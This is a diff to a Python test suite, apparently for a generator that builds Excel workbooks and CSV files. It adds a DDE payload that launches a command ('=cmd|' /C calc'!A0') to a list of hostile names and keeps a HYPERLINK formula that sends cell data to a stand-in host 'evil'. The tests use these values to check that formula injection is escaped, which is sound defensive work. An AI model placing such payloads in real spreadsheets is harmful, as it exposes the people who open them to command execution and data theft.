@@ -21,7 +21,9 @@ from tests.test_excel import ALPHA, snapshot
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"klik")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-HOSTILE = ["=1+1", "+62 812", "-", "@x", "\tx", "\rx", HYPERLINK, "#N/A"]
+# A carriage return cannot reach a name any more (the loader refuses control characters other
+# than tab and newline), so the sixth name is a DDE payload instead; csv_text still escapes CR.
+HOSTILE = ["=1+1", "+62 812", "-", "@x", "\tx", "=cmd|' /C calc'!A0", HYPERLINK, "#N/A"]
 
 
 def _quoted(text: str) -> str:
@@ -155,15 +157,21 @@ def test_round_trip_with_hostile_names_is_byte_identical(data_dir: Path, tmp_pat
     assert snapshot(data_dir) == before
 
 
-def test_control_characters_do_not_crash_the_workbooks(data_dir: Path, tmp_path: Path) -> None:
+def test_control_characters_are_refused_before_any_workbook_is_written(
+    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A BEL in a name once crashed the build inside openpyxl; the loader now refuses it with
+    its place, and the workbook writers still replace what XML cannot hold (defence in depth)."""
+    from openpyxl import Workbook
+
     from generator.cli import main
+    from generator.xlsx import put
 
     program = data_dir / "contoh" / "alpha" / "2024" / "program.yaml"
     edit(program, "nama: Laporan administrasi\n", 'nama: "Laporan\\x07 administrasi"\n')
-    assert main(["build", str(data_dir), "--keluaran", str(tmp_path / "site")]) == 0
-    book = load_workbook(tmp_path / "site" / "contoh" / "alpha" / "2024" / "data" / "laporan.xlsx")
-    texts = [c.value for ws in book.worksheets for r in ws.iter_rows() for c in r]
-    assert any(isinstance(t, str) and "Laporan\ufffd administrasi" in t for t in texts)
-    target = tmp_path / "alpha.xlsx"
-    cmd_ekspor(data_dir, ALPHA, 2024, target)
-    assert target.is_file()
+    assert main(["build", str(data_dir), "--keluaran", str(tmp_path / "site")]) == 1
+    assert "program.yaml" in capsys.readouterr().err
+    assert not (tmp_path / "site").exists()
+    ws = Workbook().active
+    assert ws is not None
+    assert put(ws, 1, 1, "Laporan\x07 administrasi").value == "Laporan\ufffd administrasi"
